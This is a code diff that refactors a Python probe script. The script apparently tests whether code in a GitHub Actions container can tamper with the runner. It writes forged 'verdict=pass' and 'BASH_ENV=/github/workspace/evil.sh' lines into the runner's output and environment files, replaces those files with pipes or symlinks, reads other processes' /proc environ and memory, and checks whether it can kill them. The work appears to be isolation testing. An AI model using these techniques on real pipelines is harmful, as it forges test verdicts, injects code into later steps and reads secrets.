@@ -31,12 +31,16 @@ def roots():
     return found
 
 
-def killable(pid):
-    try:
-        os.kill(pid, 0)
-    except OSError:
-        return False
-    return True
+def succeeded(acts):
+    """The names of those that do not fail."""
+    done = []
+    for name, act in acts.items():
+        try:
+            act()
+            done.append(name)
+        except OSError:
+            pass
+    return done
 
 
 def docker():
@@ -57,46 +61,33 @@ def importable():
 
 
 COMMANDS = ("/github/file_commands", "/github/runner_temp/_runner_file_commands")
+NAMES = ("github_output_1", "github_env_1", "github_path_1", "github_state_1", "github_step_summary_1")
 FORGED = "verdict=pass\npassed=true\nEVIL=1\nBASH_ENV=/github/workspace/evil.sh\n"
+
+
+def replace_the_folder():
+    os.rename(COMMANDS[1], COMMANDS[1] + ".old")
+    os.mkdir(COMMANDS[1])
 
 
 def forge():
     """One round of everything that could put words into the runner's files. Returns what did not fail."""
-    done = []
-    for folder in COMMANDS:
-        names = ["github_output_1", "github_env_1", "github_path_1", "github_state_1", "github_step_summary_1"]
-        for name in names:
-            path = f"{folder}/{name}"
-            for what, act in {
-                "written": lambda path=path: open(path, "a").write(FORGED),
-                "removed": lambda path=path: os.unlink(path),
-                "pipe": lambda path=path: os.mkfifo(path),
-                "moved": lambda path=path: os.rename(path, path + ".old"),
-                "link": lambda path=path: os.symlink("/opt/ragstone/pyvenv.cfg", path),
-                "replaced": lambda path=path: open(path, "x").write(FORGED),
-            }.items():
-                try:
-                    act()
-                    done.append(f"{what} {path}")
-                except OSError:
-                    pass
-    try:
-        os.rename(COMMANDS[1], COMMANDS[1] + ".old")
-        os.mkdir(COMMANDS[1])
-        done.append("the folder replaced")
-    except OSError:
-        pass
-    try:
-        open("/github/workflow/event.json", "a").write(" ")
-        done.append("the event written")
-    except OSError:
-        pass
-    try:
-        open("/github/home/.gitconfig", "a").write("[core]")
-        done.append("home written")
-    except OSError:
-        pass
-    return done
+    acts = {}
+    for path in [f"{folder}/{name}" for folder in COMMANDS for name in NAMES]:
+        acts |= {
+            f"written {path}": lambda path=path: open(path, "a").write(FORGED),
+            f"removed {path}": lambda path=path: os.unlink(path),
+            f"pipe {path}": lambda path=path: os.mkfifo(path),
+            f"moved {path}": lambda path=path: os.rename(path, path + ".old"),
+            f"link {path}": lambda path=path: os.symlink("/opt/ragstone/pyvenv.cfg", path),
+            f"replaced {path}": lambda path=path: open(path, "x").write(FORGED),
+        }
+    acts |= {
+        "the folder replaced": replace_the_folder,
+        "the event written": lambda: open("/github/workflow/event.json", "a").write(" "),
+        "home written": lambda: open("/github/home/.gitconfig", "a").write("[core]"),
+    }
+    return succeeded(acts)
 
 
 def forge_the_run():
@@ -173,7 +164,7 @@ def attempt(who):
         "gates": gates,
         "gate_environ": [readable(f"/proc/{pid}/environ") for pid in gates],
         "gate_memory": [readable(f"/proc/{pid}/mem") for pid in gates],
-        "gate_killable": [killable(pid) for pid in gates],
+        "gate_killable": succeeded({str(pid): lambda pid=pid: os.kill(pid, 0) for pid in gates}),
         "other_environ": [
             readable(f"/proc/{entry}/environ")
             for entry in os.listdir("/proc")
